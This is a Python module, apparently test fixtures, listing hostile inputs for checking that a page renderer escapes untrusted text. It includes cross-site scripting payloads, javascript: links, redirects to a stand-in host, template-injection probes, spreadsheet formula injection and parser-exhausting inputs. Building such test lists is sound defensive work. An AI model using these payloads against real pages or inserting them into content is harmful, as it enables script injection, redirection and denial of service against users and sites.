"""What somebody could write into a transcript, a codebook, a narrative or a name to break a page.

Whatever of it runs sets `pwned` on the window, the title of the document, or asks for an address.
"""

from __future__ import annotations

RUN = "window.pwned=1;document.title='pwned'"
AWAY = "https://pwned.example/"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}x.js></script>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<img src="x"onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src={AWAY}pixel.gif>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='animation-name:x' onanimationstart={RUN}>x</div>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={RUN}>x</p>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={AWAY}></iframe>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
)
LINKS = (
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a]( javascript:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](javascript&colon;{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](\x01javascript:{RUN})",
    f"[a](vbscript:{RUN})",
    f"[a](data:text/html,<script>parent.{RUN}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![a]({AWAY}a.png)",
    f'![a](x" onerror="{RUN})',
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f'[a](https://x.org/"onmouseover="{RUN})',
)
DRAWINGS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=data:image/svg+xml,<svg><script>{RUN}</script></svg>>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"</text></svg><script>{RUN}</script>",
    f"</title></svg><img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<math href=javascript:{RUN}>x</math>",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}',
    f"` onerror={RUN} `",
    f'x" style="position:fixed;inset:0" onclick="{RUN}',
    f"&quot; onload=&quot;{RUN}",
)
STYLES = (
    "</style><style>main{display:none}</style>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{AWAY}x.css';</style>",
    f"<link rel=stylesheet href={AWAY}x.css>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    f"}}body{{background:url({AWAY}x)}}",
    f"expression({RUN})",
)
HEADS = (
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'><!ENTITY c '&a;&a;&a;&a;'>]>&c;",
    "</main></div></body></html>",
    "</section></section></section>",
    "</figure></blockquote></table></td>",
    "<template><select><table>",
    "<xmp><noembed><noframes><textarea>",
)
TEMPLATES = (
    "{{ 7 * 7191 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for a in range(3) %}50337{% endfor %}",
    "{# 50337 #}",
    "{{ settings.uuid }}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    "<%= 7 * 7191 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
)
CHARACTERS = (
    "\u202egnihtyreve sesrever siht",
    "\u2066isolated and never closed",
    "nul \0 bell \x07 escape \x1b[31m delete \x7f",
    "half a pair \ud83d alone \udc00",
    "\u2028line\u2029paragraph",
    "zero\u200bwidth\ufeffjoined\u200d",
    "Z̸̢͔̀a̷l̶g̴o̵" + "\u0301" * 60,
    "unbroken" * 100,
    "&amp;&nbsp;&#0;&#xD800;&bogus;",
    "\U000e0041\U000e0042\U0010ffff\ufffe",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    f'=HYPERLINK("{AWAY}","x")',
)

PAYLOADS = (
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *DRAWINGS,
    *ATTRIBUTES,
    *STYLES,
    *HEADS,
    *TEMPLATES,
    *CHARACTERS,
    *FORMULAS,
)

IDS = ("report", "search", "words", "found", "contents", "body", "location", "cookie", "_words")
"""What the page, or the window, has of its own."""

HEAVY = {
    "quotations in quotations": "> " * 1000 + "x",
    "lists in lists": "\n".join("  " * depth + "- x" for depth in range(1000)),
    "brackets": "[" * 5000 + "](" * 5000,
    "stars": "*a **b " * 2000,
    "an endless word": "a" * 50_000 + "!",
    "quantities": "most of all but one of the three of nearly half " * 1000,
    "a wide table": "Table: x\n\n" + "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n",
    "a bomb of entities": "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: *b\n---\n\nWords.",
}
"""What costs a careless reader of Markdown, YAML or quantities hours, or its stack."""
